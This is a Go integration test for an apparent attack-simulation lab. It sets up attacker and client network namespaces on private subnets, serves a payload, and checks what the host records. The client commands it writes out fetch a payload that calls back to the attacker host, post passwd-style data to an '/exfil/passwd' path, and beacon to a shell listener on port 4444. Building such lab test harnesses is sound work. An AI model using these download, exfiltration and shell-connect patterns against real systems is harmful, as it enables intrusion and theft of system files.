package lab

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestHostsIntegration starts an attacker host in its own namespace, makes
// a client namespace (as a function's would be: its own veth, default route
// via the host), fetches a payload and posts data from the client with
// `ip netns exec … curl`, connects to the shell listener, and checks what
// the host recorded and that Close leaves no namespace or veth behind.
// It needs root and iproute2; it uses its own names and subnets
// (10.68/10.69) so that it never touches a running lab.
func TestHostsIntegration(t *testing.T) {
	if testing.Short() {
		t.Skip("needs root and network namespaces")
	}
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	for _, tool := range []string{"ip", "curl"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed", tool)
		}
	}
	cfg := HostConfig{Role: "attacker", NetNS: "fmlabt-att", HostIf: "fmlabt-att-h", PeerIf: "fmlabt-att-n",
		HostIP: "10.68.0.1", IP: "10.68.0.2", HTTPPort: 80, ShellPort: 4444, ShellTask: "id"}
	client := HostConfig{Role: "client", NetNS: "fmlabt-cli", HostIf: "fmlabt-cli-h", PeerIf: "fmlabt-cli-n",
		HostIP: "10.69.0.1", IP: "10.69.0.2"}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	h, err := StartHost(ctx, cfg, TemplateVars{Attacker: cfg.IP, Supplier: "10.65.0.2"})
	if err != nil {
		t.Fatal(err)
	}
	closed := false
	defer func() {
		if !closed {
			_ = h.Close()
		}
	}()
	_ = teardownNetns(client)
	if err := setupNetns(ctx, client); err != nil {
		t.Fatal(err)
	}
	defer teardownNetns(client)
	h.SetFiles(map[string]ServedFile{"/p.sh": {Content: []byte("echo hi; curl http://{{attacker}}/x\n"), ContentType: "text/plain"}})

	inClient := func(args ...string) string {
		t.Helper()
		out, err := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", client.NetNS}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %v: %s", args, err, out)
		}
		return string(out)
	}
	if got := inClient("curl", "-sS", "-m", "5", "http://10.68.0.2/p.sh"); got != "echo hi; curl http://10.68.0.2/x\n" {
		t.Errorf("payload = %q", got)
	}
	inClient("sh", "-c", "printf 'root:x:0:0:root:/root:/bin/sh\\n' | curl -sS -m 5 --data-binary @- http://10.68.0.2/exfil/passwd")
	if got := inClient("curl", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code} %{size_download}", "http://10.68.0.2/blob/3000.jpg"); got != "200 3000" {
		t.Errorf("blob: %q", got)
	}
	inClient("sh", "-c", "echo beacon-from-test | curl -s -m 3 telnet://10.68.0.2:4444 || true")

	reqs := h.Requests()
	if len(reqs) != 3 {
		t.Fatalf("recorded %d requests: %+v", len(reqs), reqs)
	}
	if r := reqs[0]; r.Method != "GET" || r.Path != "/p.sh" || r.Status != 200 || !strings.HasPrefix(r.Remote, "10.69.0.2:") {
		t.Errorf("request 0: %+v", r)
	}
	if r := reqs[1]; r.Method != "POST" || r.Path != "/exfil/passwd" || r.BodySize != 30 || !strings.HasPrefix(r.Head, "root:x:0:0") {
		t.Errorf("request 1: %+v", r)
	}
	deadline := time.Now().Add(5 * time.Second)
	for len(h.Conns()) == 0 && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	if cs := h.Conns(); len(cs) != 1 || !strings.Contains(cs[0].Head, "beacon-from-test") {
		t.Errorf("shell connections: %+v", cs)
	}

	if err := h.Close(); err != nil {
		t.Errorf("close: %v", err)
	}
	closed = true
	if _, err := os.Stat(filepath.Join("/run/netns", cfg.NetNS)); err == nil {
		t.Errorf("namespace %s left behind", cfg.NetNS)
	}
	if _, err := os.Stat(filepath.Join("/sys/class/net", cfg.HostIf)); err == nil {
		t.Errorf("veth %s left behind", cfg.HostIf)
	}
	if err := teardownNetns(client); err != nil {
		t.Error(err)
	}
	if _, err := os.Stat(filepath.Join("/run/netns", client.NetNS)); err == nil {
		t.Errorf("namespace %s left behind", client.NetNS)
	}
}
